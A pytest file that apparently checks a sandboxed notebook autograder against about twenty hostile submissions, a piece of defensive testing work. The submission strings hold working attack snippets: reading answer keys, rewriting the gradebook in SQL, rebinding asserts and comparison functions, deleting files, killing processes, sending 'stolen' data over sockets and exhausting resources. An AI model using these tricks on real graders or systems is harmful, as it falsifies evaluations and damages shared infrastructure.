"""Hostile submissions against `make grade` (python -m grading grade): no harm to others, no read of
hidden tests or solutions, no silent gain.

One small assignment ("tiny": a function, a multiple-choice answer, hidden tests that use numpy
and an `offrl` reference) in a temporary course, graded in ONE parallel sandboxed run whose
students are an honest one, a blank one, and one per attack below. Every attack leaves its
answers wrong (or blank) and tries to raise its score or hurt the others some other way. Each
must end with: its own score no higher than its answers deserve, OR a review flag; the honest
students' scores, the gradebook's stored tests, the course's files, and every other submission
untouched; nothing it started still running; nothing written outside the sandbox.

Classes (from the grading issue): reading the answer key; writing the gradebook; tampering inside
the kernel; damage beyond the submission; abuse of outputs and resources.
"""

from __future__ import annotations

import hashlib
import json
import shutil
import socket
import sqlite3
import threading
import time
from pathlib import Path

import nbformat
import psutil
import pytest
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook

from tests import nbgrader_harness as h

A = "tiny"
MARK = "OFFRL_ATTACK_MARKER_7f3a"  # processes/files an attack leaves carry this string
HIDDEN_LINE = "assert np.allclose(scale(np.array([2.0, 4.0]), 0.5), [1.0, 2.0])"
KEY_LINE = 'assert answer == "C"'

pytestmark = pytest.mark.xdist_group("grading_attacks")


def _meta(gid, **kw):
    return {"nbgrader": {"grade_id": gid, "schema_version": 3, **kw}}


def tiny_assignment() -> nbformat.NotebookNode:
    nb = new_notebook()
    nb.metadata["kernelspec"] = {"name": "python3", "display_name": "Python 3", "language": "python"}
    lock = dict(grade=False, solution=False, locked=True)
    nb.cells = [
        new_markdown_cell("# Tiny", metadata=_meta("intro", **lock)),
        new_code_cell(
            "import numpy as np\nfrom offrl.policies import softmax", metadata=_meta("setup", **lock)
        ),
        new_code_cell(
            "def scale(x, c):\n    ### BEGIN SOLUTION\n    return np.asarray(x) * c\n"
            "    ### END SOLUTION",
            metadata=_meta("ex1_answer", grade=False, solution=True, locked=False),
        ),
        new_code_cell(
            "assert np.allclose(scale([1.0], 3.0), [3.0]), 'scale([1], 3) should be [3]'\n"
            "### BEGIN HIDDEN TESTS\n"
            f"{HIDDEN_LINE}\n"
            "assert np.allclose(softmax(np.array([[0.0, 0.0]])), [[0.5, 0.5]])\n"
            "### END HIDDEN TESTS",
            metadata=_meta("ex1_test", grade=True, solution=False, locked=True, points=2),
        ),
        new_code_cell(
            '### BEGIN SOLUTION\nanswer = "C"\n### END SOLUTION',
            metadata=_meta("ex2_answer", grade=False, solution=True, locked=False),
        ),
        new_code_cell(
            "assert isinstance(answer, str), 'answer must be a string'\n"
            f"### BEGIN HIDDEN TESTS\n{KEY_LINE}\n### END HIDDEN TESTS",
            metadata=_meta("ex2_test", grade=True, solution=False, locked=True, points=1),
        ),
    ]
    return nb


BLANK_EX2 = 'answer = "A"'  # a wrong multiple-choice answer


def _attack(code: str, ex2: str = BLANK_EX2, where: str = "ex1_answer"):
    """(source of the ex1 answer cell, source of the ex2 answer cell): wrong answers + the attack.
    ex1's scale() is wrong (returns x)."""
    ex1 = "def scale(x, c):\n    return np.asarray(x)\n" + code
    return {"ex1_answer": ex1, "ex2_answer": ex2} if where == "ex1_answer" else {
        "ex1_answer": "def scale(x, c):\n    return np.asarray(x)\n", "ex2_answer": ex2 + "\n" + code
    }  # fmt: skip


def attacks(course: Path, port: int) -> dict[str, dict]:
    """Each attack knows the course's real path (the worst case: a learner who guessed it)."""
    c = str(course)
    walk = (
        "import os\nfound = []\n"
        "for top in ['/', os.getcwd(), os.path.expanduser('~'), '/work', '/root', '/tmp', '..']:\n"
        "    for d, dirs, files in os.walk(top):\n"
        "        if d.startswith(('/proc', '/sys', '/dev', '/usr')):\n"
        "            dirs[:] = []\n            continue\n"
        "        for f in files:\n"
        "            if f.endswith(('.db', '.ipynb')) or f == 'nbgrader_config.py':\n"
        "                found.append(os.path.join(d, f))\n"
        "for p in found:\n"
        "    try:\n        print(p, open(p, errors='replace').read()[:100000])\n"
        "    except Exception as e:\n        print('no', p, e)\n"
    )
    return {
        # reading the answer key ----------------------------------------------------------
        "walk_for_answers": _attack(walk),
        "read_known_paths": _attack(
            f"for p in ['{c}/solutions/{A}/{A}.ipynb', '{c}/gradebook.db', '{c}/nbgrader_config.py',"
            f" '{c}/source/{A}/{A}.ipynb', '../../../gradebook.db']:\n"
            "    try:\n        print(open(p, errors='replace').read())\n"
            "    except Exception as e:\n        print('blocked', p, e)\n"
        ),
        "read_history": _attack(
            "print(In)\nimport linecache\nprint(list(linecache.cache))\n", where="ex2_answer"
        ),
        # writing the gradebook -----------------------------------------------------------
        "write_gradebook": _attack(
            "import sqlite3\n"
            f"for p in ['{c}/gradebook.db', '../../../gradebook.db']:\n"
            "    try:\n"
            "        db = sqlite3.connect(p)\n"
            "        db.execute('update grade set manual_score = 100, extra_credit = 100')\n"
            "        db.execute(\"update source_cell set source = 'pass'\")\n"
            "        db.commit()\n"
            "    except Exception as e:\n        print('blocked', e)\n"
        ),
        # tampering inside the kernel --------------------------------------------------------
        "rebind_allclose": _attack(
            "np.allclose = lambda *a, **k: True\nnp.isclose = lambda *a, **k: True\n"
        ),
        "rebind_reference": _attack(
            "import offrl.policies\noffrl.policies.softmax = lambda *a, **k: np.array([[0.5, 0.5]])\n"
            "globals()['softmax'] = offrl.policies.softmax\n"
        ),
        "input_transformer": _attack(
            "ip = get_ipython()\n"
            "ip.input_transformers_cleanup.append(\n"
            "    lambda lines: ['pass\\n'] if any('assert' in l for l in lines) else lines)\n"
        ),
        "ast_transformer": _attack(
            "import ast\nclass Drop(ast.NodeTransformer):\n"
            "    def visit_Assert(self, node):\n        return ast.Pass()\n"
            "get_ipython().ast_transformers.append(Drop())\n"
        ),
        "swallow_errors": _attack(
            "get_ipython().set_custom_exc((AssertionError,), lambda *a, **k: None)\n"
        ),
        "always_equal_answer": _attack(
            "", ex2="class Any(str):\n    def __eq__(self, other):\n        return True\n"
            "    __hash__ = str.__hash__\nanswer = Any('A')\n",
        ),
        "skip_tags": {"__tags__": True},
        # damage beyond the submission -------------------------------------------------------
        "delete_others": _attack(
            "import shutil, os\n"
            f"for p in ['{c}/submitted', '{c}/autograded', '{c}/solutions', '{c}/nbgrader_config.py',"
            f" '{c}/gradebook.db', '{h.REPO}/data/recommender_offline.json', '{h.REPO}/offrl/__init__.py']:\n"
            "    try:\n"
            "        shutil.rmtree(p) if os.path.isdir(p) else os.remove(p)\n"
            "    except Exception as e:\n        print('blocked', p, e)\n"
            f"try:\n    open('{c}/nbgrader_config.py', 'a').write('\\nimport os; os.system(\"touch {c}/{MARK}\")\\n')\n"
            "except Exception as e:\n    print('blocked', e)\n"
        ),
        "background_process": _attack(
            "import subprocess, os\n"
            f"subprocess.Popen(['sh', '-c', 'sleep 4; echo {MARK} > {c}/{MARK}.bg; "
            f"sqlite3 {c}/gradebook.db \"update grade set manual_score=99\"'], start_new_session=True)\n"
            "if os.fork() == 0:\n"
            "    os.setsid()\n"
            f"    os.execvp('sh', ['sh', '-c', 'exec -a {MARK} sleep 30'])\n"
        ),
        "kill_the_grader": _attack(
            "import os, signal\nos.kill(os.getppid(), signal.SIGKILL)\n"
            "try:\n    os.kill(-1, signal.SIGKILL)\nexcept Exception:\n    pass\n"
        ),
        "kill_own_kernel": _attack("import os\nos.kill(os.getpid(), 9)\n"),
        "network": _attack(
            "import socket\n"
            f"for host in ['127.0.0.1', 'localhost', '8.8.8.8']:\n"
            "    try:\n"
            f"        s = socket.create_connection((host, {port}), timeout=2)\n"
            "        s.sendall(b'stolen')\n        print('connected', host)\n"
            "    except Exception as e:\n        print('blocked', host, e)\n"
        ),
        # abuse of outputs and resources -------------------------------------------------------
        "huge_output": _attack("print('x' * 30_000_000)\n"),
        "memory_hog": _attack("hog = bytearray(3 * 2**30)\nhog[::4096] = b'x' * len(hog[::4096])\n"),
        "fork_bomb": _attack(
            "import threading, time\n"
            "ts = [threading.Thread(target=time.sleep, args=(60,), daemon=True) for _ in range(5000)]\n"
            "[t.start() for t in ts]\n"
        ),
    }


def _submission(release, solution, spec: dict):
    nb = h.fill_release(release, solution)
    if spec.get("__tags__"):  # blank answers, every test cell tagged to be skipped
        nb = h.fill_release(release, solution)
        h.cell_by_id(nb, "ex1_answer").source = "def scale(x, c):\n    return np.asarray(x)"
        h.cell_by_id(nb, "ex2_answer").source = BLANK_EX2
        for cell in h.grade_cells(nb):
            cell.metadata["tags"] = ["skip-execution"]
        return nb
    for gid, src in spec.items():
        h.cell_by_id(nb, gid).source = src
    return nb


def _gradebook_tests(course: Path) -> list:
    with sqlite3.connect(course / "gradebook.db") as db:
        cells = db.execute("select name, cell_type, locked, source, checksum from source_cell")
        grades = db.execute("select id, max_score, cell_type from grade_cells")
        return sorted(cells.fetchall()) + sorted(grades.fetchall())


def _tree_digest(path: Path) -> dict[str, str]:
    return {
        str(p.relative_to(path)): hashlib.sha256(p.read_bytes()).hexdigest()
        for p in sorted(path.rglob("*"))
        if p.is_file()
    }


def tiny_course(tmp: Path):
    """A course (the repository's nbgrader_config.py) holding only the tiny assignment, its release
    generated. Returns (course, solution notebook, release notebook)."""
    repo = tmp / "repo"
    (repo / "solutions" / A).mkdir(parents=True)
    shutil.copy2(h.REPO / "nbgrader_config.py", repo / "nbgrader_config.py")
    solution = tiny_assignment()
    nbformat.write(solution, str(repo / "solutions" / A / f"{A}.ipynb"))
    course = h.make_course(tmp / "course", A, repo=repo)
    return course, solution, h.read(course / "notebooks" / A / f"{A}.ipynb")


@pytest.fixture(scope="module")
def graded(tmp_path_factory):
    course, solution, release = tiny_course(tmp_path_factory.mktemp("attacks"))
    with open(course / "nbgrader_config.py", "a", encoding="utf-8") as f:
        f.write(
            "\n# tests/test_grading_attacks.py: small limits, so resource attacks end quickly\n"
            "c.Execute.timeout = 20\n"
            "c.SandboxedExecute.wall_s = 90\n"
            "c.SandboxedExecute.memory_bytes = 2 * 2**30\n"
        )

    # a listener on the host's loopback: no submission may reach it
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen(8)
    server.settimeout(0.5)
    port = server.getsockname()[1]
    received: list[bytes] = []
    stop = threading.Event()

    def listen():
        while not stop.is_set():
            try:
                conn, _ = server.accept()
                received.append(conn.recv(100) or b"(connected)")
                conn.close()
            except OSError:
                continue

    threading.Thread(target=listen, daemon=True).start()
    specs = attacks(course, port)
    students = {"honest": h.fill_release(release, solution), "blank": release}
    students.update({name: _submission(release, solution, spec) for name, spec in specs.items()})
    # the gradebook must know the assignment before we take its fingerprint
    tests_before = _gradebook_tests(course)
    before = {
        "notebooks": _tree_digest(course / "notebooks"),
        "solutions": _tree_digest(course / "solutions"),
        "data": _tree_digest(h.REPO / "data"),
        "config": hashlib.sha256((course / "nbgrader_config.py").read_bytes()).hexdigest(),
    }
    t0 = time.perf_counter()
    scores = h.autograde(course, A, students)
    seconds = time.perf_counter() - t0
    time.sleep(6)  # longer than the background attack's delay
    stop.set()
    server.close()
    return dict(
        course=course, scores=scores, flags=h.flags(course, A), seconds=seconds,
        tests_before=tests_before, before=before, received=received, students=students,
    )  # fmt: skip


FULL = {"ex1_test": (2.0, 2.0), "ex2_test": (1.0, 1.0)}


def test_honest_and_blank_are_graded_right_and_unflagged(graded):
    assert graded["scores"]["honest"] == FULL
    assert graded["scores"]["blank"] == {"ex1_test": (0.0, 2.0), "ex2_test": (0.0, 1.0)}
    assert graded["flags"]["honest"] == [] and graded["flags"]["blank"] == []


def test_no_silent_gain(graded):
    """Every attack's answers are wrong: it scores 0 on both tests, or it is flagged for review."""
    gains = {
        s: (scores, graded["flags"].get(s))
        for s, scores in graded["scores"].items()
        if s not in ("honest", "blank")
        and any(v[0] > 0 for v in scores.values())
        and not graded["flags"].get(s)
    }
    assert not gains, f"attacks that gained points without a flag: {gains}"


@pytest.mark.parametrize(
    "student",
    ["rebind_allclose", "rebind_reference", "input_transformer", "ast_transformer",
     "swallow_errors", "skip_tags", "walk_for_answers", "write_gradebook", "delete_others",
     "kill_own_kernel", "kill_the_grader", "always_equal_answer"],
)  # fmt: skip
def test_tampering_is_ineffective(graded, student):
    """These attacks do not merely get flagged: the tests still run (or count as failed when the
    attack stopped them from running) and fail the wrong answers."""
    assert graded["scores"][student]["ex1_test"] == (0.0, 2.0), graded["flags"].get(student)
    assert graded["scores"][student]["ex2_test"] == (0.0, 1.0), graded["flags"].get(student)


@pytest.mark.parametrize(
    "student",
    ["rebind_allclose", "rebind_reference", "input_transformer", "ast_transformer",
     "swallow_errors", "always_equal_answer", "skip_tags", "write_gradebook", "delete_others",
     "background_process", "kill_the_grader", "huge_output", "memory_hog", "fork_bomb",
     "read_history", "network", "walk_for_answers", "read_known_paths"],
)  # fmt: skip
def test_hostile_submissions_are_flagged(graded, student):
    assert graded["flags"].get(student), f"{student} was not flagged for review"


def test_nothing_outside_the_submission_changed(graded):
    course = graded["course"]
    assert _gradebook_tests(course) == graded["tests_before"], "stored tests changed"
    b = graded["before"]
    assert _tree_digest(course / "notebooks") == b["notebooks"]
    assert _tree_digest(course / "solutions") == b["solutions"]
    assert _tree_digest(h.REPO / "data") == b["data"]
    assert hashlib.sha256((course / "nbgrader_config.py").read_bytes()).hexdigest() == b["config"]
    for s in graded["students"]:  # every submission is still there, graded
        assert (course / "submitted" / s / A / f"{A}.ipynb").is_file(), s
        assert (course / "autograded" / s / A / f"{A}.ipynb").is_file(), s
    leaked = [p for p in course.rglob(f"*{MARK}*")] + list(Path("/tmp").glob(f"*{MARK}*"))
    assert not leaked, f"an attack wrote outside its sandbox: {leaked}"
    with sqlite3.connect(course / "gradebook.db") as db:
        manual = db.execute("select count(*) from grade where manual_score is not null").fetchone()
        extra = db.execute("select count(*) from grade where extra_credit is not null").fetchone()
    assert manual[0] == 0 and extra[0] == 0, "manual scores or extra credit appeared"


def test_nothing_it_started_survives(graded):
    alive = [
        p.info for p in psutil.process_iter(["pid", "cmdline"])
        if MARK in " ".join(p.info.get("cmdline") or [])
    ]  # fmt: skip
    assert not alive, f"processes left behind by a submission: {alive}"


def test_no_network(graded):
    assert graded["received"] == [], "a submission reached a server on the grader's loopback"


def test_no_answer_key_or_hidden_test_reaches_the_outputs(graded):
    """What the walking attacks printed (their outputs, as the instructor sees them) holds no
    solution and no other notebook: the sandbox has none to read."""
    for s in ("walk_for_answers", "read_known_paths", "write_gradebook"):
        nb = h.autograded_notebook(graded["course"], A, s)
        text = json.dumps([c.get("outputs", []) for c in nb.cells])
        assert "BEGIN SOLUTION" not in text and "np.asarray(x) * c" not in text, s
        assert "gradebook" not in text.replace("gradebook.db", "") or "blocked" in text, s
        assert KEY_LINE.replace('"', '\\"') not in text, f"{s} read the answer key"


def test_hidden_tests_printed_by_a_learner_cell_are_removed(graded):
    nb = h.autograded_notebook(graded["course"], A, "read_history")
    text = json.dumps([c.get("outputs", []) for c in nb.cells if "print(In)" in c.source])
    assert HIDDEN_LINE not in text and "removed by the grader" in text


def test_outputs_are_capped(graded):
    nb_path = graded["course"] / "autograded" / "huge_output" / A / f"{A}.ipynb"
    assert nb_path.stat().st_size < 2_000_000, "a 30 MB output line reached the gradebook copy"


def test_the_class_still_finished_in_time(graded):
    """One run for ~20 submissions on 2 workers; the slowest attacks stop at their own limits
    (90 s wall clock, 20 s per cell): the run must not wait for anything longer."""
    assert graded["seconds"] < 20 * 60


def test_grades_csv_and_nbgrader_export(graded):
    import csv

    course = graded["course"]
    with open(course / "grades.csv", newline="") as f:
        rows = {r["student"]: r for r in csv.DictReader(f)}
    assert set(rows) == set(graded["students"])
    assert rows["honest"]["total"] == "3.0" and rows["honest"]["max"] == "3.0"
    assert rows["honest"]["ex1_test"] == "2.0" and rows["honest"]["ex2_test"] == "1.0"
    assert rows["honest"]["flags"] == "" and rows["rebind_allclose"]["flags"]
    h.run_nbgrader(["export"], course)  # nbgrader's own export still works, beside ours
    assert (course / "grades_nbgrader_export.csv").is_file()
    assert "flags" in (course / "grades.csv").read_text().splitlines()[0]


def test_a_rerun_grades_only_what_changed(graded):
    """Last in this file: it changes one submission."""
    course = graded["course"]
    again = h.grade_class(course, [A])
    assert f"{len(graded['students'])} submissions, 0 new or changed" in again.stdout, again.stdout
    nbformat.write(
        graded["students"]["honest"], str(course / "submitted" / "blank" / A / f"{A}.ipynb")
    )
    third = h.grade_class(course, [A])
    assert "1 new or changed" in third.stdout, third.stdout
    assert h.read_scores(course, A, ["blank"])["blank"] == FULL
